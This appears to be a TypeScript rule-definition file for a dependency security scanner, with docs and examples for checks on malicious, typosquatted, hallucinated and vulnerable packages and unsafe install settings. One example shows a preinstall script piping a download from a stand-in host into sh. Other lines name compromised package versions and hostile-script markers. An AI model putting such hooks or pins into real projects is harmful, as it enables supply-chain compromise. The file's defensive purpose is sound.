/**
 * The dependency rules (AIS5xx) as data: one table, because one pass over each manifest, install command
 * or import reports all of them. Configuration risks (indexes, TLS, scripts, mutable references) have
 * their own codes, apart from package risks (malicious, vulnerable, look-alike, missing), as the
 * catalogue recommends.
 */
import type { FileKind, RuleMeta } from '../../engine/rule';

export const MANIFEST_KINDS: readonly FileKind[] = ['requirements', 'pyproject', 'pipfile', 'setup-cfg', 'conda-env', 'package-json', 'package-lock', 'yarn-lock', 'pnpm-lock'];
const CODE: readonly FileKind[] = ['python', 'javascript', 'typescript', 'tsx'];
/** Prose that shows install commands: documentation, and the instruction files an assistant follows. */
const DOCUMENTATION: readonly FileKind[] = ['markdown', 'agent-instructions'];
const EVERYWHERE: readonly FileKind[] = [...MANIFEST_KINDS, ...CODE, ...DOCUMENTATION, 'shell'];

const OSV = 'https://osv.dev/';

export const MALICIOUS_PACKAGE: RuleMeta = {
  id: 'AIS501',
  name: 'malicious-package',
  title: 'Known-malicious package or compromised version',
  category: 'dependencies',
  fileKinds: EVERYWHERE,
  severity: 'error',
  confidence: 'high',
  cwe: ['CWE-506'],
  message: '{{detail}}',
  fixAvailability: 'sometimes',
  docs: {
    whatItDoes: 'Flags dependencies, lockfile entries, install commands and imports whose name is a known-malicious package, or whose exact version is a known-compromised release of a legitimate package (for example `ultralytics==8.3.41`, `litellm==1.82.7`, `@ctrl/tinycolor@4.1.1`). Popular packages are only flagged for the listed versions, never by name.',
    whyIsThisBad: 'Malicious packages run their payload at install time or at import time: they steal credentials, tokens, SSH keys and cloud secrets, or install miners. A compromised release of a real package is just as dangerous and is invisible in a diff that only bumps a version.',
    example: 'ultralytics==8.3.41\nhuggingface-hubs==0.0.1\n',
    useInstead: 'ultralytics==8.3.43\nhuggingface-hub==0.26.2\n',
    fixSafety: 'When the name imitates a popular package, the fix replaces it with that package; it changes what gets installed, so check that the suggested package is the one you meant. It is a display-only suggestion: replacing a dependency with a different package is never applied in bulk (`aisec fix --unsafe` skips it); apply it one at a time as an editor quick fix after checking the package. Rotate any credential the malicious package could have read.',
    references: ['https://cwe.mitre.org/data/definitions/506.html', 'https://github.com/DataDog/malicious-software-packages-dataset', 'https://github.com/ossf/malicious-packages', OSV],
  },
};

export const VULNERABLE_VERSION: RuleMeta = {
  id: 'AIS502',
  name: 'vulnerable-package-version',
  title: 'Known-vulnerable package version',
  category: 'dependencies',
  fileKinds: EVERYWHERE,
  severity: 'warning',
  confidence: 'high',
  cwe: ['CWE-1395'],
  message: '{{name}} {{version}} is affected by {{ids}}: {{summary}}{{fixed}}',
  fixAvailability: 'sometimes',
  docs: {
    whatItDoes: 'Checks pinned versions (and lockfile versions) against the bundled PyPI advisories (PEP 440 ranges), the ML supply-chain incidents newer than them (`torch<2.6.0` CVE-2025-32434, `transformers<4.48.0`), and, when online lookups are enabled, OSV for PyPI and npm (semver ranges). A range such as `torch<2.6` whose every allowed version is affected is reported too. A pin in a development-only group (`dev`, `test`, `lint`, `docs` extras or groups, `devDependencies`) is advisory (audit profile) unless it is an ML loader with a code-execution advisory. Install lines in Markdown and notebook install cells (`!pip install`, `%pip install`) are advisory (audit profile): they are a reader\'s tutorial steps, while the same finding in a manifest, lockfile, Dockerfile, script or code stays reported.',
    whyIsThisBad: 'AI code snippets often pin old versions from their training data: `langchain<0.1.11`, `transformers<4.48`, `torch<2.6`. These versions have public exploits, several of them remote code execution when a model file is loaded.',
    example: 'torch==2.5.1\ntransformers==4.30.0\n',
    useInstead: 'torch==2.6.0\ntransformers==4.48.0\n',
    fixSafety: 'The fix raises the pin to the first version that fixes every listed advisory. It is unsafe because a newer version can change behaviour; run your tests.',
    references: ['https://cwe.mitre.org/data/definitions/1395.html', 'https://github.com/pypa/advisory-database', OSV, 'https://peps.python.org/pep-0440/'],
  },
};

export const TYPOSQUAT: RuleMeta = {
  id: 'AIS503',
  name: 'typosquat-package',
  title: 'Package name imitates a popular package',
  category: 'dependencies',
  fileKinds: EVERYWHERE,
  severity: 'warning',
  advisory: { findings: 'info', editor: 'hidden', reason: 'A look-alike name that is itself an established package is almost always deliberate.' },
  confidence: 'medium',
  cwe: ['CWE-1357'],
  message: '{{detail}}',
  fixAvailability: 'sometimes',
  docs: {
    whatItDoes: 'Flags a package that is not itself popular but looks like one: one edit away (two for long names), a popular name plus an affix (`huggingface-hubs`, `requests-python`), an AI brand with generic affixes or misspelt by one slip (`deepseekai`, `gptplus`, `deepseeek`), npm scope confusion (`@typess/node`, or a scope claiming a popular name: `@lodash-js/lodash`), a name with non-ASCII characters, and, against every popular name (npm-high-impact and the PyPI top 15,000), a dropped or swapped scope (`arm-dns` for `@azure/arm-dns`), a popular scoped package\'s name under an unrelated scope (dependency confusion: `@rbapp/store` for `@tanstack/store`, reported without a replacement, since the fix is to own the scope, not to swap projects; toolchain parts such as `parser` or `schema`, per-platform binaries such as `linux-x64`, framework-named parts such as `react-dialog` and forks of a more popular unscoped name are exempt), a scope written into the name (`sentry-utils` for `@sentry/utils`, unless the scope word also starts popular unscoped names, as `vue-` does), a short name written with several look-alike characters or digits (`ax10s`, `rnocha`), an ecosystem affix (`node-`, `-js`, `.js`, `-lib`, `py-`, `-utils`, a number), reordered words (`dateutil-python`), look-alike characters or digits (`rnatplotlib`, `l0d4sh`), changed vowels or doubled letters (`pupeter`), a typing slip on a less popular name, a separator added, dropped or moved plus one more letter on a name of nine letters or more (`pupeteerextra`, `cloud-binary`), or an affix on top of a slip; and, where the shape alone is weak evidence, only against names much more popular (the farther the shape, the more popular the target must be): an npm version in the name (`typescript-5.4`, `eslint-v7`), telltale affixes (`sort-keys-plus`, `nodemailer-helper`) or two affixes (`validator-utils-pro`), words put in the plural (`webpacks-dev-servers`), two typing slips on one of the 300 most popular names (`requesgt`), a doubled letter on top of a slip on one of the 3,000 most popular, for names of nine letters or more (`tailwindd-mergr`), letters repeated two or more times over (`lodashhh`), on npm a two-character tag before or after a name of six letters or more (`exceljs-ui`, `pp-react-icons`; not a tag naming a language, runtime or helper prefix such as `-es`, `ts-`, `to-`), on npm a part suffix (`-node`, `-core`, `-sdk`, `-api`, `-client`, `-tool`) after a name that few popular packages extend (`googleapis-node`), a scope one slip or a separator from a known scope that publishes the same name (`@metaplex-foundations/umi-public-keys`, checked against the offline name list), a look-alike of a popular scope of six letters or more on a popular name (`@typescript_eslinter/eslint`, reported without a replacement), the words of a popular name in another grammatical form or spelling, two changes at least (`colouramas`, `importlibs-resource`, `webpacks-bundle-analyze`), an ecosystem word written into the middle of a popular name (`expressjs-session`, `jsonwebjstoken`), a language affix glued to a framework\'s name (`typescriptjs`), and on npm a version glued to an inner word (`react-dnd11-html5-backend`); the message names the transformation. Two popular names joined (`requests-pandas`), or one with a tag of up to three characters (`s3transfer-sl`), is reported only for a name the offline name list lacks (then as an error, since the name is missing too): registered adapters take that shape (`httpx-aiohttp`). Names are normalised first (PEP 503 for PyPI), so `Foo_Bar` is never a typo of `foo-bar`, and popular names are never reported. Naming conventions are not typos: a version line (`eventemitter2` next to `eventemitter3`; on PyPI a number added, `elasticsearch7`), a one-letter implementation prefix (`rtoml`, `grequests`), a different first letter that is no neighbouring key (`bpython`), a one-word name that at least 30 registered names use as a word (`dataset`, `cookies`), a separator variant (both registries refuse to register one), a `-cli` companion, on PyPI a `-utils`, `-api`, `-dev`, `-tools` or `-plus` companion, and a fork under another scope (`@zkochan/rimraf`). In a lockfile only dressed-up names (affix, brand, joined names, non-ASCII) are reported: the resolver wrote its entries, so a typing slip is reported in the manifest entry that asked for it.',
    whyIsThisBad: 'Attackers register look-alikes of popular packages and wait for a typo, an AI assistant or a copy-paste to install them. Recent PyPI attacks add tokens (`huggingface-hubs`, `deepseekai`) because the registry already blocks simple edits.',
    example: 'reqeusts==2.32.3\nhuggingface-hubs\n',
    useInstead: 'requests==2.32.3\nhuggingface-hub\n',
    fixSafety: 'The fix replaces the name with the popular package it resembles. Two packages can legitimately have close names, so confirm the suggestion. It is a display-only suggestion: replacing a dependency with a different package is never applied in bulk (`aisec fix --unsafe` skips it); apply it one at a time as an editor quick fix after checking the package.',
    references: ['https://cwe.mitre.org/data/definitions/1357.html', 'https://www.usenix.org/conference/usenixsecurity23/presentation/neupane', 'https://github.com/DataDog/guarddog'],
  },
};

export const HALLUCINATED: RuleMeta = {
  id: 'AIS504',
  name: 'hallucinated-package',
  title: 'Package does not exist on the registry',
  category: 'dependencies',
  fileKinds: EVERYWHERE,
  severity: 'warning',
  confidence: 'medium',
  cwe: ['CWE-1357'],
  message: '{{detail}}',
  fixAvailability: 'sometimes',
  docs: {
    whatItDoes: 'Flags a dependency, install command or import that is not first-party, not in the standard library and not a known package, and that the registry (PyPI or npm) does not have. Names that AI assistants are known to invent and that someone has since registered (`huggingface-cli`) are flagged offline. Offline, existence is checked against the bundled lists of every PyPI and npm name (the message gives the list\'s date, and says when it is more than 90 days old; `aisec intel update` refreshes them); with online lookups enabled, a name the lists lack is also asked of the registry, whose answer replaces the list\'s once it arrives. A dependency or install command naming a missing package is an error, an import a warning. Names under an npm scope with no public package, names pinned to another index (Pipfile `index`, `--extra-index-url`, `--trusted-host` on the same command), names in the `dependencies.allow` option, and lockfile entries (a registry resolved them) are not reported from the offline lists.',
    whyIsThisBad: 'Code models invent package names (about one in five suggestions from open models, one in twenty from the best commercial ones) and repeat the same names across prompts. Attackers register those names ("slopsquatting"), so the next `pip install` of the invented name installs their code. For an internal package, a public registration of the same name would win unless its index is pinned.',
    example: 'pip install huggingface-cli\nimport langchain_toolkit_pro\n',
    useInstead: 'pip install -U "huggingface_hub[cli]"\n',
    fixSafety: 'When the name is a known invention or one edit away from a popular package, the fix replaces it with that package; confirm it is the package you meant. It is a display-only suggestion: replacing a dependency with a different package is never applied in bulk (`aisec fix --unsafe` skips it); apply it one at a time as an editor quick fix after checking the package.',
    references: ['https://cwe.mitre.org/data/definitions/1357.html', 'https://arxiv.org/abs/2406.10279', 'https://www.lasso.security/blog/ai-package-hallucinations'],
  },
};

export const SUSPICIOUSLY_NEW: RuleMeta = {
  id: 'AIS505',
  name: 'suspiciously-new-package',
  title: 'Package is brand new with a single release',
  category: 'dependencies',
  fileKinds: EVERYWHERE,
  severity: 'warning',
  confidence: 'medium',
  cwe: ['CWE-1357'],
  message: '{{name}} {{evidence}}; new packages with little history are how invented and look-alike names get claimed.',
  fixAvailability: 'none',
  docs: {
    whatItDoes: 'Uses the registry facts fetched when online lookups are enabled, for a package that exists but is not among the popular ones: it is reported when its first release is less than 30 days old and it has a single release, or when it is less than 90 days old and shows two more signals among a single release, no linked source repository and install scripts. The message lists the evidence.',
    whyIsThisBad: 'In July 2025 hundreds of accounts reserved 1,525 empty PyPI projects with names that AI assistants hallucinate. A name that exists but appeared last week with one release is a placeholder or a trap far more often than a real dependency.',
    example: 'brand-new-helper-sdk==0.0.1\n',
    useInstead: '# Prefer an established package, or review the new one (source, maintainer, repository) before installing it.\n',
    references: ['https://cwe.mitre.org/data/definitions/1357.html', 'https://arxiv.org/abs/2406.10279'],
  },
};

export const UNDECLARED_IMPORT: RuleMeta = {
  id: 'AIS506',
  name: 'undeclared-import',
  title: 'Imported package is declared in no manifest',
  category: 'dependencies',
  fileKinds: CODE,
  severity: 'info',
  advisory: { findings: 'all', editor: 'hint', reason: 'Most imports of packages missing from a manifest come from the environment or a tool\'s documented setup; it is worth a look when preparing a release, not on every scan.' },
  confidence: 'medium',
  cwe: ['CWE-1357'],
  message: '`{{module}}` is imported but {{dist}} is declared in no manifest of this project.',
  fixAvailability: 'sometimes',
  docs: {
    whatItDoes: 'Maps each third-party import to its distribution through the import map (`sklearn` → `scikit-learn`, `cv2` → `opencv-python`, `PIL` → `Pillow`, `yaml` → `PyYAML`; JS packages by their specifier) and reports imports that no manifest of the project declares. The standard library, Node built-ins, relative and first-party modules, and imports guarded by `except ImportError` are never reported.',
    whyIsThisBad: 'An undeclared import is installed by hand, and people guess the name from the import: `pip install sklearn` or `pip install cv2` gets a stub, a different project or a squatter. Declaring the real distribution fixes the name once for everyone.',
    example: 'import cv2  # not in requirements.txt\n',
    useInstead: '# requirements.txt\nopencv-python==4.10.0.84\n',
    fixSafety: 'The fix appends the mapped distribution to the nearest manifest (requirements.txt, pyproject.toml `[project].dependencies` or package.json `dependencies`). It is unsafe: an import can map to several distributions (`cv2` is also `opencv-python-headless`), so check the choice.',
    references: ['https://cwe.mitre.org/data/definitions/1357.html', 'https://github.com/bndr/pipreqs'],
  },
};

export const UNPINNED_DIRECT: RuleMeta = {
  id: 'AIS507',
  name: 'unpinned-direct-dependency',
  title: 'VCS or URL dependency without a commit SHA or hash',
  category: 'dependencies',
  fileKinds: [...MANIFEST_KINDS, ...CODE, ...DOCUMENTATION, 'shell'],
  severity: 'warning',
  confidence: 'high',
  cwe: ['CWE-829'],
  message: '{{detail}}',
  fixAvailability: 'sometimes',
  docs: {
    whatItDoes: 'Flags git/hg/svn dependencies (`git+https://…@main`, `github:user/repo`, Poetry/uv `git = …` without `rev`) whose reference is not a full commit SHA, archive URL dependencies without a hash, lockfile entries locked to a git ref without a commit or downloaded without an integrity hash, and `dependency_links` in setup.py/setup.cfg. Install lines in Markdown and notebook install cells (`!pip install`, `%pip install`) are advisory (audit profile): they are a reader\'s tutorial steps, while the same finding in a manifest, lockfile, Dockerfile, script or code stays reported. A git or archive URL dependency on a GitHub repository of the scanned repository\'s own owner (its git `origin` remote, else the repository URL in its manifest: a dev image that installs the project from its own main branch) is information in the audit profile only, as AIS856 treats the owner\'s own actions: the same people control both.',
    whyIsThisBad: 'A branch or tag can be moved and an archive URL can serve new content at any time, so what you install tomorrow is not what you reviewed today. Git installs also run the package\'s build or `prepare` scripts.',
    example: 'mylib @ git+https://github.com/org/mylib.git@main\n',
    useInstead: 'mylib @ git+https://github.com/org/mylib.git@3f2c1a9d8e7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d\n',
    fixSafety: 'When the commit a ref points to is known (online lookups), the fix pins it. It is unsafe: the SHA must come from you or the registry, and you should review that commit.',
    references: ['https://cwe.mitre.org/data/definitions/829.html', 'https://pip.pypa.io/en/stable/topics/vcs-support/', 'https://docs.npmjs.com/cli/configuring-npm/package-json#git-urls-as-dependencies'],
  },
};

export const PLAIN_HTTP: RuleMeta = {
  id: 'AIS508',
  name: 'plain-http-package-source',
  title: 'Package index or download over plain HTTP',
  category: 'dependencies',
  fileKinds: [...MANIFEST_KINDS, ...CODE, ...DOCUMENTATION, 'shell'],
  severity: 'warning',
  confidence: 'high',
  cwe: ['CWE-319'],
  message: '{{what}} uses plain http://, so anyone on the network path can swap the packages.',
  fixAvailability: 'always',
  docs: {
    whatItDoes: 'Flags package indexes, find-links, channels, registries, dependency URLs and lockfile `resolved` URLs that use `http://`.',
    whyIsThisBad: 'Without TLS a proxy, a hotel network or a compromised router can serve modified packages; hashes only help when every requirement carries one.',
    example: '--index-url http://pypi.internal.example/simple\n',
    useInstead: '--index-url https://pypi.internal.example/simple\n',
    fixSafety: 'The fix switches the URL to https://. It is unsafe because the server must support HTTPS.',
    references: ['https://cwe.mitre.org/data/definitions/319.html', 'https://pip.pypa.io/en/stable/topics/secure-installs/'],
  },
};

export const DEPENDENCY_CONFUSION: RuleMeta = {
  id: 'AIS509',
  name: 'dependency-confusion-index',
  title: 'Index setup open to dependency confusion',
  category: 'dependencies',
  fileKinds: ['requirements', 'pyproject', 'pipfile', 'conda-env', ...CODE, ...DOCUMENTATION, 'shell'],
  severity: 'warning',
  confidence: 'medium',
  cwe: ['CWE-427'],
  message: '{{detail}}',
  fixAvailability: 'sometimes',
  docs: {
    whatItDoes: 'Flags `--extra-index-url` (pip merges every index and takes the highest version from any of them), Poetry `supplemental`/`secondary` sources, uv `index-strategy = "unsafe-best-match"` or `"unsafe-first-match"`, and Pipfiles with several sources where packages do not name their index.',
    whyIsThisBad: 'When a private index is combined with the public one, anyone who registers an internal package name on PyPI with a higher version wins. This is how the PyTorch-nightly `torchtriton` compromise (December 2022) stole SSH keys and environment variables.',
    example: '--extra-index-url https://download.pytorch.org/whl/nightly/cpu\ntorchtriton\n',
    useInstead: '# pyproject.toml with uv: pin the package to its index\n[[tool.uv.index]]\nname = "pytorch"\nurl = "https://download.pytorch.org/whl/cpu"\nexplicit = true\n\n[tool.uv.sources]\ntorch = { index = "pytorch" }\n',
    fixSafety: 'The fix removes the `--extra-index-url` line or the unsafe strategy. It is unsafe: packages that only exist on that index will then need an explicit, pinned source.',
    references: ['https://cwe.mitre.org/data/definitions/427.html', 'https://pytorch.org/blog/compromised-nightly-dependency/', 'https://docs.astral.sh/uv/configuration/indexes/#searching-across-multiple-indexes'],
  },
};

export const TLS_DISABLED: RuleMeta = {
  id: 'AIS510',
  name: 'index-tls-verification-disabled',
  title: 'TLS verification disabled for a package index',
  category: 'dependencies',
  fileKinds: ['requirements', 'pipfile', 'conda-env', ...CODE, ...DOCUMENTATION, 'shell'],
  severity: 'warning',
  confidence: 'high',
  cwe: ['CWE-295'],
  message: '{{detail}}',
  fixAvailability: 'always',
  docs: {
    whatItDoes: 'Flags `--trusted-host` in requirements files and pip commands, and `verify_ssl = false` on a Pipfile source.',
    whyIsThisBad: 'Both tell the installer to accept any certificate (or plain HTTP) from that host, so a network attacker can serve arbitrary packages.',
    example: '--trusted-host pypi.internal.example\n',
    useInstead: '# Install the internal CA instead: pip --cert /path/to/ca.pem, or PIP_CERT\n',
    fixSafety: 'The fix removes the option (or sets `verify_ssl = true`). It is unsafe: installs will fail until the host\'s certificate is trusted properly.',
    references: ['https://cwe.mitre.org/data/definitions/295.html', 'https://pip.pypa.io/en/stable/cli/pip/#cmdoption-trusted-host'],
  },
};

export const INSTALL_SCRIPT: RuleMeta = {
  id: 'AIS511',
  name: 'npm-install-script',
  title: 'Lifecycle install script in package.json',
  category: 'dependencies',
  fileKinds: ['package-json'],
  severity: 'info',
  advisory: { findings: 'info', editor: 'hidden', reason: 'Build steps in a project\'s own lifecycle scripts are common; suspicious and preinstall scripts stay in the default profile.' },
  confidence: 'medium',
  cwe: ['CWE-506'],
  message: '{{detail}}',
  fixAvailability: 'none',
  docs: {
    whatItDoes: 'Reports `preinstall`, `install` and `postinstall` scripts in a project\'s own package.json: Info for ordinary build steps, Warning for `preinstall`, Error when the script fetches from the network, pipes into a shell, encodes data or looks up the host or user (`curl`, `wget`, `nslookup`, `$(whoami)`, OAST domains).',
    whyIsThisBad: 'Lifecycle scripts run with the user\'s rights on every `npm install`, before anyone reads the code. GuardDog notes that `preinstall` is almost exclusively used for malware delivery, and dependency-confusion payloads beacon out of it.',
    example: '{ "scripts": { "preinstall": "curl -s https://x.example/p.sh | sh" } }\n',
    useInstead: '{ "scripts": { "build": "tsc -p ." } }\n',
    references: ['https://cwe.mitre.org/data/definitions/506.html', 'https://docs.npmjs.com/cli/using-npm/scripts#life-cycle-scripts'],
  },
};

export const NPM_ALIAS: RuleMeta = {
  id: 'AIS512',
  name: 'npm-alias-different-package',
  title: 'npm alias installs a different package',
  category: 'dependencies',
  fileKinds: ['package-json', 'javascript', 'typescript', 'tsx', 'python', ...DOCUMENTATION, 'shell'],
  severity: 'info',
  advisory: { findings: 'all', editor: 'hidden', reason: 'An npm alias is a deliberate choice of the author; it is worth a look in a dependency review.' },
  confidence: 'high',
  cwe: ['CWE-1357'],
  message: '"{{alias}}" installs {{target}}{{extra}}; code that imports "{{alias}}" gets {{target}}.',
  fixAvailability: 'none',
  docs: {
    whatItDoes: 'Reports `npm:` aliases whose key differs from the package they install (`"lodash": "npm:evil@1.0.0"`). An alias that shadows a popular package name with another package is a Warning. Every other check runs on the alias target.',
    whyIsThisBad: 'Reviewers read the key, but npm installs the target: an alias can slip a look-alike or malicious package in under a trusted name.',
    example: '{ "dependencies": { "lodash": "npm:lodahs@4.17.21" } }\n',
    useInstead: '{ "dependencies": { "lodash": "4.17.21" } }\n',
    references: ['https://cwe.mitre.org/data/definitions/1357.html', 'https://docs.npmjs.com/cli/using-npm/package-spec#aliases'],
  },
};

export const MALFORMED_MANIFEST: RuleMeta = {
  id: 'AIS513',
  name: 'malformed-manifest',
  title: 'Manifest cannot be read',
  category: 'dependencies',
  fileKinds: MANIFEST_KINDS,
  severity: 'warning',
  confidence: 'high',
  cwe: ['CWE-1104'],
  message: '{{detail}}',
  fixAvailability: 'none',
  docs: {
    whatItDoes: 'Reports the line where a manifest stops being valid (TOML, JSON, YAML, requirement syntax, unknown pip options, partial `--hash` mode). A requirements file whose unreadable lines are sentences (a file of prose, as code generators sometimes write) is one finding at the first of them, not one per sentence.',
    whyIsThisBad: 'A manifest that cannot be parsed is not checked for malicious, vulnerable or invented packages, and installers reject it or, worse, read it differently from what the author meant.',
    example: 'requests>=2.0,,<3\n',
    useInstead: 'requests>=2.0,<3\n',
    references: ['https://cwe.mitre.org/data/definitions/1104.html', 'https://pip.pypa.io/en/stable/reference/requirements-file-format/', 'https://packaging.python.org/en/latest/specifications/dependency-specifiers/'],
  },
};

export const IMPORT_NAME_INSTALLED: RuleMeta = {
  id: 'AIS514',
  name: 'import-name-installed',
  title: 'Package installed under its import name',
  category: 'dependencies',
  fileKinds: EVERYWHERE,
  severity: 'warning',
  confidence: 'high',
  cwe: ['CWE-1357'],
  message: '{{name}} is the import name, not the package: on PyPI "{{name}}" is a stub, a redirect or another project. Install {{meant}}.',
  fixAvailability: 'always',
  docs: {
    whatItDoes: 'Flags dependencies and install commands that name a module\'s import name where the distribution has another name: `sklearn` (scikit-learn), `cv2` (opencv-python), `PIL` (Pillow), `yaml` (PyYAML), `dotenv` (python-dotenv), `jwt` (PyJWT), `serial` (pyserial) and more.',
    whyIsThisBad: 'Code snippets show the import, so people and AI assistants `pip install` the import name. On PyPI those names are deprecated stubs that fail (`sklearn`), redirects, unrelated projects (`jwt`, `serial`, `dotenv`) or squats waiting for exactly this mistake.',
    example: 'pip install sklearn cv2 yaml\n',
    useInstead: 'pip install scikit-learn opencv-python PyYAML\n',
    fixSafety: 'The fix replaces the name with the distribution that provides the module, which changes what gets installed (`cv2` may be wanted as `opencv-python-headless`). It is a display-only suggestion: replacing a dependency with a different package is never applied in bulk (`aisec fix --unsafe` skips it); apply it one at a time as an editor quick fix after checking the package.',
    references: ['https://cwe.mitre.org/data/definitions/1357.html', 'https://github.com/bndr/pipreqs', 'https://pypi.org/project/sklearn/'],
  },
};

export const DEPENDENCY_RULES: readonly RuleMeta[] = [
  MALICIOUS_PACKAGE, VULNERABLE_VERSION, TYPOSQUAT, HALLUCINATED, SUSPICIOUSLY_NEW, UNDECLARED_IMPORT, UNPINNED_DIRECT,
  PLAIN_HTTP, DEPENDENCY_CONFUSION, TLS_DISABLED, INSTALL_SCRIPT, NPM_ALIAS, MALFORMED_MANIFEST, IMPORT_NAME_INSTALLED,
];
